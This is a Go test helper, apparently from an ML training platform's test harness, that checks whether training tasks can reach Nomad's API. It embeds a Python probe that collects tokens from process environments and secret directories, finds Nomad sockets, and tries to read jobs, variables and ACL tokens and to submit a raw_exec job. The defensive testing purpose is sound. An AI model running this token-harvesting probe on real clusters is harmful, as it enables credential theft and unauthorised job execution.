package rig

import (
	"fmt"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"

	v1 "github.com/detent-ml/detent/master/v1"
)

// attack is a program that tries to use Nomad's API with everything that a task can find: the socket that Nomad puts into the
// secrets of each task, the node's network, and every token in its environment, its files and the environments of processes.
const attack = `
import glob, http.client, json, os, re, socket

tokens, sockets, opened, reached = {""}, set(), [], set()

def look(data):
    for found in re.findall(rb"eyJ[\w-]{16,}\.[\w-]{16,}\.[\w-]{16,}", data):
        tokens.add(found.decode())

def read(path):
    try:
        with open(path, "rb") as f:
            look(f.read(1 << 20))
    except OSError:
        pass

def walk(top):
    for folder, _, names in os.walk(top):
        for name in names:
            path = os.path.join(folder, name)
            if name == "api.sock":
                sockets.add(path)
            elif os.path.isfile(path):
                read(path)

for path in glob.glob("/proc/[0-9]*/environ"):
    read(path)
for top in {os.environ.get(n) for n in ("NOMAD_SECRETS_DIR", "NOMAD_ALLOC_DIR", "NOMAD_TASK_DIR")} | {"/secrets", "/alloc", "/local", "/run/determined"}:
    if top:
        walk(top)

class Unix(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.settimeout(10)
        self.sock.connect(self.host)

def tcp(address):
    return lambda: http.client.HTTPConnection(address, timeout=10)

doors = {a: tcp(a) for a in os.environ["ATTACK"].split()}
for path in sockets:
    doors[path] = lambda path=path: Unix(path)

job = {"Job": {"ID": "attack", "Name": "attack", "Type": "batch", "Datacenters": ["*"], "TaskGroups": [
    {"Name": "g", "Tasks": [{"Name": "t", "Driver": "raw_exec", "Config": {"command": "/bin/true"}, "Resources": {"CPU": 10, "MemoryMB": 10}}]}]}}
tries = [("GET", p, None) for p in ("/v1/jobs?namespace=*", "/v1/nodes", "/v1/agent/self", "/v1/vars?namespace=*", "/v1/var/nomad/jobs",
    "/v1/var/nomad/jobs/det-master", "/v1/job/det-master", "/v1/acl/tokens")] + [("PUT", "/v1/jobs", json.dumps(job))]
for name, door in doors.items():
    for token in sorted(tokens):
        for method, path, body in tries:
            try:
                c = door()
                c.request(method, path, body, {"X-Nomad-Token": token} if token else {})
                answer = c.getresponse()
                text = answer.read(4096).strip()
                c.close()
            except OSError:
                continue
            reached.add(name)
            if answer.status == 200 and text not in (b"", b"[]", b"null"):
                opened.append(f"{method} {path} at {name} with {'a token ' + token[:12] if token else 'no token'}: {text[:80]!r}")
for line in opened:
    print("OPENED", line, flush=True)
with open("/proc/self/status") as f:
    status = dict(line.split(":", 1) for line in f)
rights = 0
for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
    rights |= int(status[name], 16)
print(f"ATTACK rights={rights:x} gains={1 - int(status['NoNewPrivs'])} tokens={len(tokens) - 1} sockets={len(sockets)} reached={len(reached)}", flush=True)
`

// An Attack is what a task found that tried to use Nomad's API.
type Attack struct {
	Tokens, Sockets, Reached int
	// Rights reports that the program has capabilities, or may get some from a file.
	Rights bool
}

var attackLine = regexp.MustCompile(`ATTACK rights=([0-9a-f]+) gains=([01]) tokens=(\d+) sockets=(\d+) reached=(\d+)`)

// AttackNomad runs a training whose program tries to use Nomad's API, and fails the test if that works in any way. host is the address under
// which tasks reach this machine.
func (r *Rig) AttackNomad(t *testing.T, host, more string) Attack {
	t.Helper()
	nomad, err := url.Parse(r.NomadURL)
	if err != nil {
		t.Fatal(err)
	}
	id := r.Submit(t, fmt.Sprintf("name: attack\nentrypoint: [python3, attack.py]\nmax_restarts: 0\nenvironment:\n  environment_variables: [\"ATTACK=%s:%s\"]\n%s"+
		"searcher: {name: single, metric: loss, max_length: {batches: 1}}\n", host, nomad.Port(), more), map[string]string{"attack.py": attack})
	r.WaitState(t, id, v1.ExperimentStateCompleted)
	log := r.Log(t, id)
	for line := range strings.Lines(log) {
		if strings.Contains(line, "OPENED ") {
			t.Errorf("a task uses Nomad's API: %s", strings.TrimSpace(line))
		}
	}
	found := attackLine.FindStringSubmatch(log)
	if found == nil {
		t.Fatalf("the attack did not end:\n%s", log)
	}
	a := Attack{Rights: found[1] != "0" || found[2] != "0"}
	for i, at := range []*int{&a.Tokens, &a.Sockets, &a.Reached} {
		if *at, err = strconv.Atoi(found[i+3]); err != nil {
			t.Fatal(err)
		}
	}
	return a
}
